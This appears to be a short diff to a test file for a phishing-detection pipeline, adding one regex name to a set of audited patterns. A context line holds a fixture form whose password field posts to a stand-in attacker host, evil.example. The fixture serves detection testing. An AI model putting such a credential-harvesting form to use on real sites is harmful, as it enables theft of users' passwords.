@@ -28,6 +28,7 @@ FORM = "<form action='https://collect.evil.example/gate.php'><input type=passwor
 # character and consumes what it scans: no attempt rescans what another one read
 _AUDITED = {
     "pipelines.signals._PLAY_RE",
+    "pipelines.signals._TORRENT_HEX",  # a fixed 40-character run after one sign, on 2,048 chars
     "pipelines.scoring._DEFANGED",
     "pipelines.lures._URL_IN_SCRIPT",
     "pipelines.text._WHITESPACE",
